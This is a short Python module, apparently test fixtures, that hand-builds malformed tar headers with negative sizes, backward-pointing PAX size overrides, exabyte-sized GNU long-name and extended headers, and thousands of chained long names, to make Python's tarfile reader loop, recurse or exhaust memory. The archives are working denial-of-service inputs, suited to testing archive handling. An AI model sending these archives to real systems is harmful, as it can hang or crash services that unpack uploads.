"""Tar archives whose headers make Python's own reader loop, recurse or allocate."""

import tarfile

END = bytes(1024)
BLOCK = tarfile.BLOCKSIZE


def header(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0) -> bytes:
    """Return a header with any size, also one that `tarfile` does not write."""
    member = tarfile.TarInfo(name)
    member.type = kind
    block = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    number = size if size >= 0 else 2**88 + size
    block[124:136] = (b"\x80" if size >= 0 else b"\xff") + number.to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def extended(key: str, value: str) -> bytes:
    """Return a header that changes a value of the next member."""
    text = f" {key}={value}\n"
    length = len(text)
    while len(f"{length}{text}") != length:
        length = len(f"{length}{text}")
    record = f"{length}{text}".encode()
    return header("x", tarfile.XHDTYPE, len(record)) + record.ljust(BLOCK, b"\0")


def long_name(text: bytes) -> bytes:
    return header("././@LongLink", tarfile.GNUTYPE_LONGNAME, len(text)) + text.ljust(BLOCK, b"\0")


FIRST = header("a.jpg")
HOSTILE_TARS = {
    "leads back": FIRST + header("b.jpg", size=-BLOCK) + END,
    "leads back by an extended header": FIRST + extended("size", "-1536") + header("b.jpg") + END,
    "negative": header("a.jpg", size=-1024) + END,
    "long name of exabytes": header("x", tarfile.GNUTYPE_LONGNAME, 2**62) + END,
    "extended header of exabytes": header("x", tarfile.XHDTYPE, 2**62) + END,
    "extended header of gigabytes": header("x", tarfile.XHDTYPE, 2**33) + END,
    "thousands of long names": long_name(b"a.jpg") * 3000 + FIRST + END,
}
